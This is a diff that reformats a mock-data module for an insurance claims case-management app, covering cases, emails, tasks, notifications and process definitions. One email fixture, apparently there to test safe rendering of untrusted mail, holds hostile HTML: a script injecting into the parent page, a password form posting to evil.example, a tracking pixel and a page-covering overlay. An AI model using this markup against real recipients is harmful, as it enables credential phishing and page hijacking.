@@ -22,21 +22,90 @@ const person = (id) => {
 const claim = JSON.parse(read('claim.case.json'));
 export const definitions = [
   { version: 3, ...claim },
-  { key: 'complaint', name: 'Complaint', description: 'Complaints about our service, answered within two working days', version: 1, caseNumberPrefix: 'CPL', stages: [{ id: 'triage', name: 'Triage' }, { id: 'answer', name: 'Answer' }], statuses: claim.statuses, fields: [{ key: 'channel', label: 'Channel', type: 'string', required: true }, { key: 'urgent', label: 'Urgent', type: 'boolean' }], createForm: null, processes: [], queues: ['claims'], defaultQueue: 'claims' },
+  {
+    key: 'complaint',
+    name: 'Complaint',
+    description: 'Complaints about our service, answered within two working days',
+    version: 1,
+    caseNumberPrefix: 'CPL',
+    stages: [
+      { id: 'triage', name: 'Triage' },
+      { id: 'answer', name: 'Answer' },
+    ],
+    statuses: claim.statuses,
+    fields: [
+      { key: 'channel', label: 'Channel', type: 'string', required: true },
+      { key: 'urgent', label: 'Urgent', type: 'boolean' },
+    ],
+    createForm: null,
+    processes: [],
+    queues: ['claims'],
+    defaultQueue: 'claims',
+  },
 ];
 export const queues = [
-  { id: 'claims', name: 'Claims desk', description: 'New and open claims', members: { users: [], groups: ['claims'] }, openCount: 18, takeableCount: 4 },
-  { id: 'decisions', name: 'Decisions', description: 'Claims to decide', members: { users: [], groups: ['supervisors'] }, openCount: 3, takeableCount: 0 },
+  {
+    id: 'claims',
+    name: 'Claims desk',
+    description: 'New and open claims',
+    members: { users: [], groups: ['claims'] },
+    openCount: 18,
+    takeableCount: 4,
+  },
+  {
+    id: 'decisions',
+    name: 'Decisions',
+    description: 'Claims to decide',
+    members: { users: [], groups: ['supervisors'] },
+    openCount: 3,
+    takeableCount: 0,
+  },
 ];
-export const forms = Object.fromEntries(['claim-new', 'claim-check', 'claim-assess', 'claim-approve', 'site-visit'].map((key) => [key, JSON.parse(read(`forms/${key}.form`))]));
+export const forms = Object.fromEntries(
+  ['claim-new', 'claim-check', 'claim-assess', 'claim-approve', 'site-visit'].map((key) => [
+    key,
+    JSON.parse(read(`forms/${key}.form`)),
+  ]),
+);
 
-const titles = ['Water damage in the kitchen', 'Broken shop window', 'Storm took roof tiles', 'Stolen bicycle, locked cellar', 'Fire damage in garage', 'Burst pipe on the second floor', 'Hail damage to car', 'Laptop fell during commute', 'Flooded basement after heavy rain', 'Lightning damaged heating control', 'Vandalised garden fence', 'Cracked ceramic hob', 'Mould after leaking washing machine and a rather long story about who knew what when', 'Lost luggage in Lisbon'];
+const titles = [
+  'Water damage in the kitchen',
+  'Broken shop window',
+  'Storm took roof tiles',
+  'Stolen bicycle, locked cellar',
+  'Fire damage in garage',
+  'Burst pipe on the second floor',
+  'Hail damage to car',
+  'Laptop fell during commute',
+  'Flooded basement after heavy rain',
+  'Lightning damaged heating control',
+  'Vandalised garden fence',
+  'Cracked ceramic hob',
+  'Mould after leaking washing machine and a rather long story about who knew what when',
+  'Lost luggage in Lisbon',
+];
 const people = ['Mara Jensen', 'Tom Becker', 'Ines Duarte', 'Piotr Nowak', 'Yuki Tanaka', 'Lena Fischer'];
 
 function sla(index) {
-  const states = [['running', 3 * HOUR + 20 * MINUTE], ['atRisk', 38 * MINUTE], ['breached', -95 * MINUTE], ['paused', 2 * DAY], ['met', 0], ['running', 2 * DAY + 3 * HOUR]];
+  const states = [
+    ['running', 3 * HOUR + 20 * MINUTE],
+    ['atRisk', 38 * MINUTE],
+    ['breached', -95 * MINUTE],
+    ['paused', 2 * DAY],
+    ['met', 0],
+    ['running', 2 * DAY + 3 * HOUR],
+  ];
   const [state, left] = states[index % states.length];
-  return [{ id: 'resolution', name: 'Resolution', state: 'running', dueAt: at(4 * DAY), remainingSeconds: (4 * DAY) / 1000 }, { id: 'first-response', name: 'First response', state, dueAt: state === 'paused' || state === 'met' ? null : at(left), remainingSeconds: state === 'met' ? null : Math.trunc(left / 1000) }];
+  return [
+    { id: 'resolution', name: 'Resolution', state: 'running', dueAt: at(4 * DAY), remainingSeconds: (4 * DAY) / 1000 },
+    {
+      id: 'first-response',
+      name: 'First response',
+      state,
+      dueAt: state === 'paused' || state === 'met' ? null : at(left),
+      remainingSeconds: state === 'met' ? null : Math.trunc(left / 1000),
+    },
+  ];
 }
 
 export function makeCase(index, overrides = {}) {
@@ -45,25 +114,76 @@ export function makeCase(index, overrides = {}) {
   const name = people[index % people.length];
   const owner = [null, 'anna', 'ben', 'anna', 'clara'][index % 5];
   return {
-    id: `case-${index}`, number: `CLM-${String(index + 1).padStart(6, '0')}`, version: 3, definition: 'claim', definitionName: 'Claim', title: titles[index % titles.length], stage: stage.id, stageName: stage.name,
-    status: status.id, statusName: status.name, statusKind: status.kind, queue: 'claims', assignee: person(owner), requester: { name, email: `${name.toLowerCase().replace(' ', '.')}@mail.example` }, priority: [50, 80, 20][index % 3],
-    fields: { policyNumber: `P-${10_000 + index * 37}`, amount: 420 + index * 113.5, damage: ['water', 'glass', 'storm', 'theft'][index % 4], description: 'The customer sent pictures and an estimate.' },
-    labels: index % 6 === 0 ? ['pictures'] : [], createdAt: at(-index * 5 * HOUR - HOUR), createdBy: person('anna'), updatedAt: at(-index * 41 * MINUTE), closedAt: status.kind === 'closed' ? at(-HOUR) : null, closeReason: status.kind === 'closed' ? 'Paid out' : null, dueAt: index % 3 === 0 ? at(2 * DAY) : null,
-    slas: status.kind === 'closed' ? [{ id: 'first-response', name: 'First response', state: 'met', dueAt: null, remainingSeconds: null }] : sla(index), openTaskCount: index % 3 === 2 ? 0 : 1, unreadMailCount: index % 4 === 0 ? 2 : 0,
-    problem: index === 7 ? { step: 'register-claim', reason: 'The policy system did not answer for 30 minutes; the registration was undone.', at: at(-HOUR), undone: false } : null,
-    processInstances: [{ id: `pi-${index}`, definitionKey: 'claim-handling', name: 'Claim handling', state: 'ACTIVE' }], ...overrides,
+    id: `case-${index}`,
+    number: `CLM-${String(index + 1).padStart(6, '0')}`,
+    version: 3,
+    definition: 'claim',
+    definitionName: 'Claim',
+    title: titles[index % titles.length],
+    stage: stage.id,
+    stageName: stage.name,
+    status: status.id,
+    statusName: status.name,
+    statusKind: status.kind,
+    queue: 'claims',
+    assignee: person(owner),
+    requester: { name, email: `${name.toLowerCase().replace(' ', '.')}@mail.example` },
+    priority: [50, 80, 20][index % 3],
+    fields: {
+      policyNumber: `P-${10_000 + index * 37}`,
+      amount: 420 + index * 113.5,
+      damage: ['water', 'glass', 'storm', 'theft'][index % 4],
+      description: 'The customer sent pictures and an estimate.',
+    },
+    labels: index % 6 === 0 ? ['pictures'] : [],
+    createdAt: at(-index * 5 * HOUR - HOUR),
+    createdBy: person('anna'),
+    updatedAt: at(-index * 41 * MINUTE),
+    closedAt: status.kind === 'closed' ? at(-HOUR) : null,
+    closeReason: status.kind === 'closed' ? 'Paid out' : null,
+    dueAt: index % 3 === 0 ? at(2 * DAY) : null,
+    slas:
+      status.kind === 'closed'
+        ? [{ id: 'first-response', name: 'First response', state: 'met', dueAt: null, remainingSeconds: null }]
+        : sla(index),
+    openTaskCount: index % 3 === 2 ? 0 : 1,
+    unreadMailCount: index % 4 === 0 ? 2 : 0,
+    problem:
+      index === 7
+        ? {
+            step: 'register-claim',
+            reason: 'The policy system did not answer for 30 minutes; the registration was undone.',
+            at: at(-HOUR),
+            undone: false,
+          }
+        : null,
+    processInstances: [{ id: `pi-${index}`, definitionKey: 'claim-handling', name: 'Claim handling', state: 'ACTIVE' }],
+    ...overrides,
   };
 }
 
 export function timelineOf(item) {
-  const entry = (id, offset, actor, kind, summary, data = {}) => ({ id: String(id), at: at(offset), actor: typeof actor === 'string' ? person(actor) : actor, kind, summary, data });
+  const entry = (id, offset, actor, kind, summary, data = {}) => ({
+    id: String(id),
+    at: at(offset),
+    actor: typeof actor === 'string' ? person(actor) : actor,
+    kind,
+    summary,
+    data,
+  });
   const system = { id: 'system:rules', name: 'Casewright' };
   return [
-    entry(14, -12 * MINUTE, 'ben', 'comment-added', 'Commented', { body: 'Spoke to the customer. The plumber can come on Thursday morning.\n@Anna Meyer can you check the policy?', commentId: 'c2' }),
+    entry(14, -12 * MINUTE, 'ben', 'comment-added', 'Commented', {
+      body: 'Spoke to the customer. The plumber can come on Thursday morning.\n@Anna Meyer can you check the policy?',
+      commentId: 'c2',
+    }),
     entry(13, -40 * MINUTE, system, 'mail-received', `Mail from ${item.requester.name}: Re: Water in the kitchen`),
     entry(12, -2 * HOUR, 'anna', 'mail-sent', `Mail to ${item.requester.email}: We received your claim`),
     entry(11, -3 * HOUR, 'anna', 'task-claimed', 'Task Check papers claimed by Anna Meyer'),
-    entry(10, -4 * HOUR, 'anna', 'comment-added', 'Commented', { body: 'Pictures are fine, the estimate is missing the VAT number.', commentId: 'c1' }),
+    entry(10, -4 * HOUR, 'anna', 'comment-added', 'Commented', {
+      body: 'Pictures are fine, the estimate is missing the VAT number.',
+      commentId: 'c1',
+    }),
     entry(9, -5 * HOUR, 'anna', 'field-changed', 'Changed Amount (EUR)', { from: 420, to: 1240.5 }),
     entry(8, -6 * HOUR, system, 'sla-at-risk', 'First response is at risk'),
     entry(7, -22 * HOUR, 'anna', 'stage-changed', 'Stage changed from Intake to Assessment'),
@@ -76,7 +196,8 @@ export function timelineOf(item) {
   ];
 }
 
-const hostile = '<p>Hello,</p><p>please find the <b>pictures</b> attached. <a href="https://example.test/claim">Our page</a></p><img src="https://tracker.example/pixel.png"><script>parent.document.title = "owned"</script><form action="https://evil.example"><input name="password"></form><div style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(https://evil.example/x)">cover</div><p>Kind regards<br>Mara</p>';
+const hostile =
+  '<p>Hello,</p><p>please find the <b>pictures</b> attached. <a href="https://example.test/claim">Our page</a></p><img src="https://tracker.example/pixel.png"><script>parent.document.title = "owned"</script><form action="https://evil.example"><input name="password"></form><div style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(https://evil.example/x)">cover</div><p>Kind regards<br>Mara</p>';
 export function mailsOf(item) {
   const customer = { name: item.requester.name, address: item.requester.email };
   const desk = { name: 'Harbor Claims', address: 'claims@harbor.example' };
@@ -85,40 +206,190 @@ export function mailsOf(item) {
     { id: 'a2', fileId: 'file-png', name: 'kitchen.png', contentType: 'image/png', size: 68_211 },
     { id: 'a3', fileId: 'file-txt', name: 'notes.txt', contentType: 'text/plain', size: 412 },
   ];
-  const base = { references: [], cc: [], caseId: item.id, problem: null, deliveries: [], attachments: [], inReplyTo: null };
+  const base = {
+    references: [],
+    cc: [],
+    caseId: item.id,
+    problem: null,
+    deliveries: [],
+    attachments: [],
+    inReplyTo: null,
+  };
   return [
-    { ...base, id: `${item.id}-m1`, direction: 'in', messageId: '<m1@mail.example>', from: customer, to: [desk], subject: 'Water in the kitchen', sentAt: at(-27 * HOUR), receivedAt: at(-27 * HOUR), text: 'Hello', html: hostile, attachments, state: 'processed' },
-    { ...base, id: `${item.id}-m2`, direction: 'out', messageId: '<m2@harbor.example>', inReplyTo: '<m1@mail.example>', from: desk, to: [customer], subject: 'Re: Water in the kitchen', sentAt: at(-2 * HOUR), receivedAt: null, text: 'Dear Ms Jensen,\n\nwe received your claim. Could you send us the VAT number of the plumber?\n\nKind regards\nAnna Meyer', html: null, state: 'sent', deliveries: [{ to: customer.address, state: 'sent', at: at(-2 * HOUR), answer: '250 2.0.0 Ok: queued as 4F2A' }] },
-    { ...base, id: `${item.id}-m3`, direction: 'in', messageId: '<m3@mail.example>', inReplyTo: '<m2@harbor.example>', from: customer, to: [desk], cc: [{ name: 'Plumber Ltd', address: 'office@plumber.example' }], subject: 'Re: Water in the kitchen', sentAt: at(-40 * MINUTE), receivedAt: at(-40 * MINUTE), text: 'Of course, it is DE 123 456 789.\n\nBest\nMara\n\nOn Friday, Harbor Claims wrote:\n> Dear Ms Jensen,\n> we received your claim.', html: null, state: 'processed' },
+    {
+      ...base,
+      id: `${item.id}-m1`,
+      direction: 'in',
+      messageId: '<m1@mail.example>',
+      from: customer,
+      to: [desk],
+      subject: 'Water in the kitchen',
+      sentAt: at(-27 * HOUR),
+      receivedAt: at(-27 * HOUR),
+      text: 'Hello',
+      html: hostile,
+      attachments,
+      state: 'processed',
+    },
+    {
+      ...base,
+      id: `${item.id}-m2`,
+      direction: 'out',
+      messageId: '<m2@harbor.example>',
+      inReplyTo: '<m1@mail.example>',
+      from: desk,
+      to: [customer],
+      subject: 'Re: Water in the kitchen',
+      sentAt: at(-2 * HOUR),
+      receivedAt: null,
+      text: 'Dear Ms Jensen,\n\nwe received your claim. Could you send us the VAT number of the plumber?\n\nKind regards\nAnna Meyer',
+      html: null,
+      state: 'sent',
+      deliveries: [{ to: customer.address, state: 'sent', at: at(-2 * HOUR), answer: '250 2.0.0 Ok: queued as 4F2A' }],
+    },
+    {
+      ...base,
+      id: `${item.id}-m3`,
+      direction: 'in',
+      messageId: '<m3@mail.example>',
+      inReplyTo: '<m2@harbor.example>',
+      from: customer,
+      to: [desk],
+      cc: [{ name: 'Plumber Ltd', address: 'office@plumber.example' }],
+      subject: 'Re: Water in the kitchen',
+      sentAt: at(-40 * MINUTE),
+      receivedAt: at(-40 * MINUTE),
+      text: 'Of course, it is DE 123 456 789.\n\nBest\nMara\n\nOn Friday, Harbor Claims wrote:\n> Dear Ms Jensen,\n> we received your claim.',
+      html: null,
+      state: 'processed',
+    },
   ];
 }
 
 export function tasksFor(cases) {
-  const kinds = [['check-papers', 'Check papers', 'claim-check'], ['assess-claim', 'Assess claim', 'claim-assess'], ['approve-payment', 'Approve payment', 'claim-approve']];
-  return cases.filter((item) => item.openTaskCount > 0 && item.statusKind !== 'closed').slice(0, 40).map((item, index) => {
-    const [key, name, form] = kinds[index % 3];
-    return {
-      id: `task-${index}`, name, processInstanceId: item.processInstances[0].id, processDefinitionId: 'claim-handling:3', processDefinitionKey: 'claim-handling', taskDefinitionKey: key, assignee: index % 3 === 0 ? 'anna' : index % 3 === 1 ? null : 'ben',
-      candidateGroups: ['claims'], createdAt: at(-(index + 1) * 3 * HOUR), dueAt: index % 4 === 3 ? null : at((index - 2) * 7 * HOUR), followUpAt: null, priority: 50, caseId: item.id, caseNumber: item.number, caseTitle: item.title, formKey: form, version: 1,
-    };
-  });
+  const kinds = [
+    ['check-papers', 'Check papers', 'claim-check'],
+    ['assess-claim', 'Assess claim', 'claim-assess'],
+    ['approve-payment', 'Approve payment', 'claim-approve'],
+  ];
+  return cases
+    .filter((item) => item.openTaskCount > 0 && item.statusKind !== 'closed')
+    .slice(0, 40)
+    .map((item, index) => {
+      const [key, name, form] = kinds[index % 3];
+      return {
+        id: `task-${index}`,
+        name,
+        processInstanceId: item.processInstances[0].id,
+        processDefinitionId: 'claim-handling:3',
+        processDefinitionKey: 'claim-handling',
+        taskDefinitionKey: key,
+        assignee: index % 3 === 0 ? 'anna' : index % 3 === 1 ? null : 'ben',
+        candidateGroups: ['claims'],
+        createdAt: at(-(index + 1) * 3 * HOUR),
+        dueAt: index % 4 === 3 ? null : at((index - 2) * 7 * HOUR),
+        followUpAt: null,
+        priority: 50,
+        caseId: item.id,
+        caseNumber: item.number,
+        caseTitle: item.title,
+        formKey: form,
+        version: 1,
+      };
+    });
 }
 
 export const notifications = [
-  { id: 'n1', kind: 'mention', title: 'Ben Okafor mentioned you in CLM-000002', body: 'Can you check the policy?', link: '/cases/CLM-000002/overview', caseId: 'case-1', createdAt: at(-12 * MINUTE), readAt: null, deliveries: [{ channel: 'in-app', state: 'sent', at: at(-12 * MINUTE), answer: null }, { channel: 'email', state: 'sent', at: at(-11 * MINUTE), answer: '250 Ok' }] },
-  { id: 'n2', kind: 'sla-breached', title: 'First response of CLM-000003 was breached', body: 'Storm took roof tiles', link: '/cases/CLM-000003/overview', caseId: 'case-2', createdAt: at(-95 * MINUTE), readAt: null, deliveries: [{ channel: 'email', state: 'failed', at: at(-90 * MINUTE), answer: '550 5.1.1 mailbox unavailable' }, { channel: 'sms', state: 'suppressed', at: null, answer: 'switched off by you' }] },
-  { id: 'n3', kind: 'task-assigned', title: 'Task “Check papers” was assigned to you', body: null, link: '/tasks/task-0', caseId: 'case-0', createdAt: at(-5 * HOUR), readAt: at(-4 * HOUR), deliveries: [] },
+  {
+    id: 'n1',
+    kind: 'mention',
+    title: 'Ben Okafor mentioned you in CLM-000002',
+    body: 'Can you check the policy?',
+    link: '/cases/CLM-000002/overview',
+    caseId: 'case-1',
+    createdAt: at(-12 * MINUTE),
+    readAt: null,
+    deliveries: [
+      { channel: 'in-app', state: 'sent', at: at(-12 * MINUTE), answer: null },
+      { channel: 'email', state: 'sent', at: at(-11 * MINUTE), answer: '250 Ok' },
+    ],
+  },
+  {
+    id: 'n2',
+    kind: 'sla-breached',
+    title: 'First response of CLM-000003 was breached',
+    body: 'Storm took roof tiles',
+    link: '/cases/CLM-000003/overview',
+    caseId: 'case-2',
+    createdAt: at(-95 * MINUTE),
+    readAt: null,
+    deliveries: [
+      { channel: 'email', state: 'failed', at: at(-90 * MINUTE), answer: '550 5.1.1 mailbox unavailable' },
+      { channel: 'sms', state: 'suppressed', at: null, answer: 'switched off by you' },
+    ],
+  },
+  {
+    id: 'n3',
+    kind: 'task-assigned',
+    title: 'Task “Check papers” was assigned to you',
+    body: null,
+    link: '/tasks/task-0',
+    caseId: 'case-0',
+    createdAt: at(-5 * HOUR),
+    readAt: at(-4 * HOUR),
+    deliveries: [],
+  },
 ];
 
 export const processDefinitions = [
-  { id: 'claim-handling:3', key: 'claim-handling', name: 'Claim handling', version: 3, versionTag: '1.2', deploymentId: 'd1', deployedAt: at(-3 * DAY), deployedBy: 'Devi Raman', runningInstances: 23, incidents: 2, file: 'claim-handling.bpmn' },
-  { id: 'email-to-case:1', key: 'email-to-case', name: 'E-mail to case', version: 1, versionTag: null, deploymentId: 'd1', deployedAt: at(-3 * DAY), deployedBy: 'Devi Raman', runningInstances: 1, incidents: 0, file: 'email-to-case.bpmn' },
-  { id: 'site-visit:1', key: 'site-visit', name: 'Site visit', version: 1, versionTag: null, deploymentId: 'd1', deployedAt: at(-3 * DAY), deployedBy: 'Devi Raman', runningInstances: 4, incidents: 0, file: 'site-visit.bpmn' },
+  {
+    id: 'claim-handling:3',
+    key: 'claim-handling',
+    name: 'Claim handling',
+    version: 3,
+    versionTag: '1.2',
+    deploymentId: 'd1',
+    deployedAt: at(-3 * DAY),
+    deployedBy: 'Devi Raman',
+    runningInstances: 23,
+    incidents: 2,
+    file: 'claim-handling.bpmn',
+  },
+  {
+    id: 'email-to-case:1',
+    key: 'email-to-case',
+    name: 'E-mail to case',
+    version: 1,
+    versionTag: null,
+    deploymentId: 'd1',
+    deployedAt: at(-3 * DAY),
+    deployedBy: 'Devi Raman',
+    runningInstances: 1,
+    incidents: 0,
+    file: 'email-to-case.bpmn',
+  },
+  {
+    id: 'site-visit:1',
+    key: 'site-visit',
+    name: 'Site visit',
+    version: 1,
+    versionTag: null,
+    deploymentId: 'd1',
+    deployedAt: at(-3 * DAY),
+    deployedBy: 'Devi Raman',
+    runningInstances: 4,
+    incidents: 0,
+    file: 'site-visit.bpmn',
+  },
 ];
 
 /** Walks a BPMN file from its start, so that the mock's tokens stand where they could stand. */
 export function walk(xml, stopAt) {
-  const flows = [...xml.matchAll(/<bpmn:sequenceFlow [^>]*id="([^"]+)"[^>]*>/g)].map((match) => ({ id: match[1], source: /sourceRef="([^"]+)"/.exec(match[0])[1], target: /targetRef="([^"]+)"/.exec(match[0])[1] }));
+  const flows = [...xml.matchAll(/<bpmn:sequenceFlow [^>]*id="([^"]+)"[^>]*>/g)].map((match) => ({
+    id: match[1],
+    source: /sourceRef="([^"]+)"/.exec(match[0])[1],
+    target: /targetRef="([^"]+)"/.exec(match[0])[1],
+  }));
   const start = /<bpmn:startEvent [^>]*id="([^"]+)"/.exec(xml)[1];
   const previous = new Map([[start, null]]);
   const queue = [start];
@@ -133,7 +404,11 @@ export function walk(xml, stopAt) {
   }
   const activities = [];
   const taken = [];
-  for (let node = stopAt, flow = previous.get(stopAt); node !== undefined; node = flow?.source, flow = node === undefined ? undefined : previous.get(node)) {
+  for (
+    let node = stopAt, flow = previous.get(stopAt);
+    node !== undefined;
+    node = flow?.source, flow = node === undefined ? undefined : previous.get(node)
+  ) {
     activities.unshift({ elementId: node, state: node === stopAt ? 'active' : 'completed', count: 1 });
     if (flow == null) break;
     taken.unshift(flow.id);
@@ -142,18 +417,56 @@ export function walk(xml, stopAt) {
 }
 
 export const incidents = [
-  { id: 'i1', message: 'Policy system answered 503 after 3 attempts', type: 'failedExternalTask', elementId: 'register-claim', elementName: 'Register claim', createdAt: at(-50 * MINUTE), processInstanceId: 'pi-7', definitionKey: 'claim-handling', definitionName: 'Claim handling', businessKey: 'CLM-000008', retries: 0 },
-  { id: 'i2', message: 'Unknown property used in expression: ${amont}. Cause: Cannot resolve identifier "amont"', type: 'failedJob', elementId: 'decide', elementName: 'Decide claim', createdAt: at(-3 * HOUR), processInstanceId: 'pi-4', definitionKey: 'claim-handling', definitionName: 'Claim handling', businessKey: 'CLM-000005', retries: 0 },
+  {
+    id: 'i1',
+    message: 'Policy system answered 503 after 3 attempts',
+    type: 'failedExternalTask',
+    elementId: 'register-claim',
+    elementName: 'Register claim',
+    createdAt: at(-50 * MINUTE),
+    processInstanceId: 'pi-7',
+    definitionKey: 'claim-handling',
+    definitionName: 'Claim handling',
+    businessKey: 'CLM-000008',
+    retries: 0,
+  },
+  {
+    id: 'i2',
+    message: 'Unknown property used in expression: ${amont}. Cause: Cannot resolve identifier "amont"',
+    type: 'failedJob',
+    elementId: 'decide',
+    elementName: 'Decide claim',
+    createdAt: at(-3 * HOUR),
+    processInstanceId: 'pi-4',
+    definitionKey: 'claim-handling',
+    definitionName: 'Claim handling',
+    businessKey: 'CLM-000005',
+    retries: 0,
+  },
 ];
 
 export const stuckMails = [
-  { ...mailsOf(makeCase(0))[0], id: 'mail-stuck', caseId: null, state: 'undeliverable', problem: 'No process definition with key “email-to-case” is deployed', subject: 'Broken window at the shop', attachments: [] },
+  {
+    ...mailsOf(makeCase(0))[0],
+    id: 'mail-stuck',
+    caseId: null,
+    state: 'undeliverable',
+    problem: 'No process definition with key “email-to-case” is deployed',
+    subject: 'Broken window at the shop',
+    attachments: [],
+  },
 ];
 
 /** A one-page PDF with a line of text, written out by hand. */
 export function pdf(text) {
   const stream = `BT /F1 20 Tf 60 740 Td (${text}) Tj 0 -34 Td /F1 12 Tf (Kitchen, 3 hours of work, materials included. Total 1,240.50 EUR) Tj ET`;
-  const objects = ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>', `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`, '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'];
+  const objects = [
+    '<< /Type /Catalog /Pages 2 0 R >>',
+    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
+    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
+    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
+  ];
   let out = '%PDF-1.4\n';
   const offsets = objects.map((object, index) => {
     const offset = out.length;
